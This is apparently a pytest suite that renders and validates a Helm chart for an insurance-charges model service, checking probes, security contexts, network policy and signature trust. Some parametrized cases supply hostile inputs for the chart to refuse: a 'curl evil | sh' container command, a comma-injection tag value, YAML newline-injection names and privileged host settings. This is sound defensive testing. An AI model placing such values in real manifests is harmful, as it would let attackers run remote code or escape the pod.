"""The Helm chart, rendered by the real helm binary and validated against Kubernetes schemas."""

import copy
import subprocess

import pytest

from insurance_pipeline.deploy.plan import (
    CHART,
    ChartError,
    render_chart,
    restricted_violations,
    validate_objects,
)
from insurance_pipeline.resources.deploy import DeployRunnerResource

pytestmark = pytest.mark.pure

HELM = DeployRunnerResource().helm()
BASE = {"model.version": "7", "model.sha256": "ab" * 32}
NON_DEFAULT = {
    **BASE,
    "namespace": "ml-prod",
    "createNamespace": False,
    "networkPolicy.enabled": False,
    "config.logPredictionInputs": True,
    "service.type": "ClusterIP",
    "autoscaling.enabled": True,
    "replicaCount": 3,
    "image.repository": "ghcr.io/acme/icm",
    "image.tag": "v7-hotfix",
    "config.logLevel": "DEBUG",
}


def render(values):
    return render_chart(values, helm=HELM, release="icm")


def by_kind(objects):
    return {o["kind"]: o for o in objects}


def container(objects):
    return by_kind(objects)["Deployment"]["spec"]["template"]["spec"]["containers"][0]


def test_helm_is_the_pinned_binary_and_lint_passes():
    version = subprocess.run([HELM, "version", "--short"], capture_output=True, text=True)
    assert version.stdout.startswith("v4.1.4")
    lint = subprocess.run(
        [HELM, "lint", str(CHART), "--set", "model.version=7"], capture_output=True, text=True
    )
    assert lint.returncode == 0, lint.stdout + lint.stderr
    strict = subprocess.run(
        [HELM, "lint", "--strict", str(CHART), "--set", "model.version=7"],
        capture_output=True,
        text=True,
    )
    assert strict.returncode == 0, strict.stdout + strict.stderr


@pytest.mark.parametrize("values", [BASE, NON_DEFAULT], ids=["default", "non-default"])
def test_every_rendered_object_is_valid_kubernetes(values):
    objects = render(values)
    assert validate_objects(objects) == []
    assert validate_objects(objects, "1.30.0") == []


def test_default_objects_probes_resources_and_security():
    objects = render(BASE)
    kinds = by_kind(objects)
    assert set(kinds) == {
        "Namespace",
        "NetworkPolicy",
        "Deployment",
        "Service",
        "ConfigMap",
        "PodDisruptionBudget",
    }
    namespace = kinds["Namespace"]["metadata"]
    assert namespace["name"] == "model-services"
    assert namespace["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
    assert namespace["annotations"]["helm.sh/resource-policy"] == "keep"
    assert all(
        o["metadata"]["namespace"] == "model-services" for o in objects if o["kind"] != "Namespace"
    )
    assert kinds["ConfigMap"]["data"]["LOG_PREDICTION_INPUTS"] == "false"  # health data
    deployment = kinds["Deployment"]
    assert deployment["spec"]["replicas"] == 2
    c = container(objects)
    assert c["image"] == "registry.local/insurance-charges-model:v7"
    assert c["livenessProbe"]["httpGet"]["path"] == "/api/health"
    assert c["readinessProbe"]["httpGet"]["path"] == "/api/health/ready"
    assert c["startupProbe"]["httpGet"]["path"] == "/api/health/startup"
    assert c["resources"]["requests"] == {"cpu": "100m", "memory": "250Mi"}
    assert set(c["resources"]["limits"]) == {"cpu", "memory"}
    security = c["securityContext"]
    assert security["allowPrivilegeEscalation"] is False
    assert security["readOnlyRootFilesystem"] is True
    assert security["runAsNonRoot"] is True
    assert security["capabilities"]["drop"] == ["ALL"]
    pod = deployment["spec"]["template"]["spec"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["seccompProfile"]["type"] == "RuntimeDefault"
    assert {"name": "tmp", "mountPath": "/tmp"} in c["volumeMounts"]
    assert "emptyDir" in pod["volumes"][0]
    env = {e["name"]: e["valueFrom"]["fieldRef"]["fieldPath"] for e in c["env"]}
    assert env == {
        "NODE_IP": "status.hostIP",
        "POD_NAME": "metadata.name",
        "NODE_NAME": "spec.nodeName",
        "APP_NAME": "metadata.labels['app']",  # the original's downward-API wiring
    }
    config = kinds["ConfigMap"]["data"]
    assert "APP_NAME" not in config  # one source: the pod's label
    assert c["envFrom"][0]["configMapRef"]["name"] == kinds["ConfigMap"]["metadata"]["name"]
    assert kinds["Service"]["spec"]["type"] == "NodePort"
    labels = deployment["spec"]["template"]["metadata"]["labels"]
    assert labels["insurance-pipeline/model-version"] == "7"
    assert kinds["PodDisruptionBudget"]["spec"]["minAvailable"] == 1


def test_non_default_values_take_effect():
    objects = render(NON_DEFAULT)
    kinds = by_kind(objects)
    assert set(kinds) == {
        "Deployment",
        "Service",
        "ConfigMap",
        "PodDisruptionBudget",
        "HorizontalPodAutoscaler",
    }
    assert all(o["metadata"]["namespace"] == "ml-prod" for o in objects)
    assert kinds["ConfigMap"]["data"]["LOG_PREDICTION_INPUTS"] == "true"
    assert "replicas" not in kinds["Deployment"]["spec"]  # the HPA owns the count
    assert kinds["Service"]["spec"]["type"] == "ClusterIP"
    assert container(objects)["image"] == "ghcr.io/acme/icm:v7-hotfix"
    assert kinds["ConfigMap"]["data"]["LOG_LEVEL"] == "DEBUG"


def test_a_config_change_rolls_the_pods():
    def checksum(values):
        meta = by_kind(render(values))["Deployment"]["spec"]["template"]["metadata"]
        return meta["annotations"]["checksum/config"]

    assert checksum(BASE) == checksum(BASE)
    assert checksum(BASE) != checksum({**BASE, "config.logLevel": "WARNING"})


def test_rendering_without_an_image_tag_or_model_version_fails_clearly():
    with pytest.raises(ChartError, match="set image.tag or model.version"):
        render({})


def test_probes_have_timeouts_and_a_rollout_drains_connections():
    objects = render(BASE)
    c = container(objects)
    for probe in ("startupProbe", "livenessProbe", "readinessProbe"):
        assert c[probe]["timeoutSeconds"] == 2
    pod = by_kind(objects)["Deployment"]["spec"]["template"]["spec"]
    pause = c["lifecycle"]["preStop"]["sleep"]["seconds"]
    assert pause == 5 and pod["terminationGracePeriodSeconds"] == 30 > pause
    slower = render(
        {**BASE, "shutdown.preStopSleepSeconds": 10, "probes.readiness.timeoutSeconds": 4}
    )
    assert container(slower)["lifecycle"]["preStop"]["sleep"]["seconds"] == 10
    assert container(slower)["readinessProbe"]["timeoutSeconds"] == 4


def test_the_defaults_are_the_original_names_nodeport_and_port_8000():
    """The original manifests' names, labels and container, so its `kubectl get pods -l
    app=insurance-charges-model-service` and `kubectl logs -c insurance-charges-model` work."""
    objects = render(BASE)
    kinds = by_kind(objects)
    assert kinds["Deployment"]["metadata"]["name"] == "insurance-charges-model-deployment"
    assert kinds["Service"]["metadata"]["name"] == "insurance-charges-model-service"
    assert kinds["Namespace"]["metadata"]["name"] == "model-services"
    assert all(
        o["metadata"]["namespace"] == "model-services" for o in objects if o["kind"] != "Namespace"
    )
    service = kinds["Service"]["spec"]
    assert service["type"] == "NodePort"
    assert service["ports"][0]["port"] == 8000 and service["ports"][0]["targetPort"] == 8000
    assert container(objects)["ports"][0]["containerPort"] == 8000
    pod_labels = kinds["Deployment"]["spec"]["template"]["metadata"]["labels"]
    assert pod_labels["app"] == "insurance-charges-model-service"
    assert container(objects)["name"] == "insurance-charges-model"
    for thing in (kinds["Deployment"], kinds["Service"]):
        labels = thing["metadata"]["labels"]
        assert labels["app.kubernetes.io/name"] == "insurance-charges-model-service"
        assert labels["app.kubernetes.io/component"] == "model-service"
        # the model's registry version, as the image's version label (not the original's 0.1.0)
        assert labels["app.kubernetes.io/version"] == "7"
    assert kinds["Deployment"]["spec"]["selector"]["matchLabels"] == {"app": pod_labels["app"]}
    assert service["selector"] == {"app": pod_labels["app"]}


def test_the_service_settings_reach_the_pod():
    config = by_kind(render({**BASE, "config.logPredictionInputs": False}))["ConfigMap"]["data"]
    assert config["LOG_PREDICTION_INPUTS"] == "false"
    assert config["SERVICE_BODY_TIMEOUT_SECONDS"] == "10"
    # in-flight requests get the grace period less the preStop pause and a margin
    assert config["SERVICE_SHUTDOWN_TIMEOUT_SECONDS"] == "20"


def test_the_network_policy_is_on_by_default_and_admits_only_the_service_port():
    assert "NetworkPolicy" in by_kind(render(BASE))
    assert "NetworkPolicy" not in by_kind(render({**BASE, "networkPolicy.enabled": False}))
    peers = [{"namespaceSelector": {"matchLabels": {"team": "pricing"}}}]
    objects = render({**BASE, "networkPolicy.enabled": True, "networkPolicy.ingressFrom": peers})
    assert validate_objects(objects) == []
    policy = by_kind(objects)["NetworkPolicy"]["spec"]
    assert policy["policyTypes"] == ["Ingress", "Egress"] and policy["egress"] == []
    assert policy["ingress"] == [{"ports": [{"port": "http", "protocol": "TCP"}], "from": peers}]
    labels = by_kind(objects)["Deployment"]["spec"]["selector"]["matchLabels"]
    assert policy["podSelector"]["matchLabels"] == labels


def test_an_owned_namespace_carries_the_restricted_pod_security_labels():
    labels = by_kind(render(BASE))["Namespace"]["metadata"]["labels"]
    for mode in ("enforce", "audit", "warn"):
        assert labels[f"pod-security.kubernetes.io/{mode}"] == "restricted"


def test_the_image_by_digest_wins_over_the_tag():
    digest = "sha256:" + "c" * 64
    image = container(render({**BASE, "image.digest": digest}))["image"]
    assert image == f"registry.local/insurance-charges-model@{digest}"


def test_values_go_in_a_file_so_a_comma_cannot_rewrite_another_value():
    hostile = "abc,image.repository=evil/x"
    with pytest.raises(ChartError, match="/image/tag"):  # one literal value, and not a tag
        render({**BASE, "image.tag": hostile})
    assert container(render({**BASE, "image.tag": "v7.1"}))["image"].endswith(":v7.1")


@pytest.mark.parametrize(
    "extra",
    [
        {"hostNetwork": True},
        {"hostPID": True},
        {"hostIPC": True},
        {"command": ["sh", "-c", "curl evil | sh"]},
        {"resources": None},
        {"securityContext": {"runAsUser": 0, "runAsGroup": 0, "fsGroup": 0}},
        {"namespace": "model-services\n  annotations:\n    injected: yes"},
        {"names": {"deployment": "x\nspec: {}", "service": "s"}},
        {"config": {"logLevel": "INFO", "port": 8000, "extra": 1}},
    ],
    ids=lambda extra: next(iter(extra)),
)
def test_helm_refuses_a_values_file_that_loosens_the_pod(tmp_path, extra):
    """An extra values file (DEPLOY_VALUES_FILE) is checked by the chart's strict schema:
    unknown keys, nulls and strings that are not names never reach a manifest."""
    import yaml

    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(yaml.safe_dump(extra))
    with pytest.raises(ChartError, match="schema"):
        render_chart(BASE_NESTED, helm=HELM, release="icm", values_files=(str(hostile),))


BASE_NESTED = {"model": {"version": "7", "sha256": "ab" * 32}}


def test_rendered_objects_are_checked_for_the_restricted_pod_security_profile():
    objects = render(BASE)
    assert restricted_violations(objects) == []
    loosened = copy.deepcopy(objects)
    deployment = by_kind(loosened)["Deployment"]
    pod = deployment["spec"]["template"]["spec"]
    pod["hostNetwork"] = True
    pod["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    pod["containers"][0]["securityContext"]["allowPrivilegeEscalation"] = True
    pod["containers"][0]["securityContext"]["capabilities"] = {"add": ["SYS_ADMIN"]}
    pod["containers"][0]["ports"][0]["hostPort"] = 80
    found = " ".join(restricted_violations(loosened))
    for problem in (
        "hostNetwork",
        "hostPath",
        "allowPrivilegeEscalation",
        "drop ALL",
        "SYS_ADMIN",
        "hostPort",
    ):
        assert problem in found, (problem, found)


def test_a_trusted_key_makes_the_pod_check_the_folders_signature(tmp_path):
    from insurance_pipeline.core.trust.keys import Signer, generate_key

    pem = Signer(generate_key(tmp_path / "key.pem")).public_pem().decode()
    objects = render({**BASE, "model.trustedKey": pem})
    assert validate_objects(objects) == [] and restricted_violations(objects) == []
    maps = {o["metadata"]["name"]: o for o in objects if o["kind"] == "ConfigMap"}
    trust = maps["icm-insurance-charges-model-trust"]
    assert trust["data"]["trusted-key.pem"] == pem
    settings = next(m for name, m in maps.items() if not name.endswith("-trust"))["data"]
    assert settings["INSURANCE_DEPLOYMENT"] == "production"
    assert settings["MODEL_TRUSTED_KEY"] == "/etc/insurance-trust/trusted-key.pem"
    mounts = {m["name"]: m for m in container(objects)["volumeMounts"]}
    assert mounts["trust"]["mountPath"] == "/etc/insurance-trust" and mounts["trust"]["readOnly"]
    # without one, nothing of it is rendered; a key that is not a PEM public key is refused
    plain = render(BASE)
    assert "trust" not in {m["name"] for m in container(plain)["volumeMounts"]}
    with pytest.raises(ChartError):
        render({**BASE, "model.trustedKey": "-----BEGIN PRIVATE KEY-----\nabc\n"})


def test_the_local_cluster_manifests_never_pull_and_pin_the_exported_model(tmp_path):
    """`make manifests`: the original's `kubectl apply` flow, rendered from the chart."""
    import yaml

    from insurance_pipeline.compiled.artifact import MANIFEST_FILE, Manifest, manifest_digest
    from tooling.manifests import render_manifests

    folder = tmp_path / "served"
    folder.mkdir()
    manifest = Manifest(model_name="insurance_charges_model", version=12, sha256="cd" * 32)
    (folder / MANIFEST_FILE).write_text(manifest.to_json())
    objects = [o for o in yaml.safe_load_all(render_manifests(folder, helm=HELM)) if o]
    assert validate_objects(objects) == []
    c = container(objects)
    assert c["image"] == "insurance-charges-model:v12"
    assert c["imagePullPolicy"] == "Never"
    config = by_kind(objects)["ConfigMap"]["data"]
    pin = config.get("MODEL_SHA256") or next(
        e["value"] for e in c["env"] if e["name"] == "MODEL_SHA256"
    )
    assert pin == manifest_digest(folder)
    assert "Namespace" in by_kind(objects)  # `kubectl apply` creates it too


def test_the_probes_are_the_originals():
    c = container(render(BASE))
    settings = {
        name: {k: c[name][k] for k in ("initialDelaySeconds", "periodSeconds", "failureThreshold")}
        for name in ("startupProbe", "livenessProbe", "readinessProbe")
    }
    assert settings == {
        "startupProbe": {"initialDelaySeconds": 2, "periodSeconds": 5, "failureThreshold": 5},
        "livenessProbe": {"initialDelaySeconds": 0, "periodSeconds": 10, "failureThreshold": 5},
        "readinessProbe": {"initialDelaySeconds": 0, "periodSeconds": 10, "failureThreshold": 5},
    }
